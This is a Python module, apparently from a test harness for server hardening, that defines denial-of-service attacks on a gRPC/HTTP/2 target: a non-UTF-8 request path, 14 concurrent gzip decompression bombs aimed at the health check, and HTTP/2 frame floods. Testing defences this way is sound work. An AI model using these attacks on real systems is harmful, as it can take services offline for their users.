"""Attacks below the messages: names of methods, compression, and floods of frames."""

import zlib
from contextlib import ExitStack

from support.http2 import END_HEADERS, END_STREAM, GREETING, Kind, frame, header_block, raw_connection
from support.http2_floods import FLOODS, Flood
from target import Attack, Target

BOMBS = 14
BOMB_BYTES = 60_000_000
FRAME_BYTES = 16_000


def undecodable_path(target: Target) -> None:
    """Calls a method whose name is not UTF-8, without a key."""
    with raw_connection(target.address) as connection:
        connection.send(GREETING, frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, header_block("/doherty/\udcff")))
        next((received for received in connection.frames() if received.stream == 1), None)


def gzip_bombs(target: Target) -> None:
    """Sends messages of 60 kB to the open health service at the same time. Each decompresses to 60 MB."""
    packer = zlib.compressobj(9, wbits=31)
    data = packer.compress(bytes(BOMB_BYTES)) + packer.flush()
    message = b"\1" + len(data).to_bytes(4) + data
    headers = header_block("/grpc.health.v1.Health/Check", ("grpc-encoding", "gzip"))
    with ExitStack() as stack:
        connections = [stack.enter_context(raw_connection(target.address)) for _ in range(BOMBS)]
        for connection in connections:
            connection.send(GREETING, frame(Kind.HEADERS, END_HEADERS, 1, headers))
            for at in range(0, len(message), FRAME_BYTES):
                connection.send(frame(Kind.DATA, 0, 1, message[at : at + FRAME_BYTES]))
            connection.send(frame(Kind.DATA, END_STREAM, 1))
        for connection in connections:
            next((received for received in connection.frames() if received.stream == 1), None)


def _flood(flood: Flood) -> Attack:
    return lambda target: flood.run(target.address, target.held)


PROTOCOL: dict[str, Attack] = {
    "path that is not UTF-8": undecodable_path,
    "14 gzip bombs, 60 kB": gzip_bombs,
    **{f"HTTP/2: {name}": _flood(flood) for name, flood in FLOODS.items()},
}
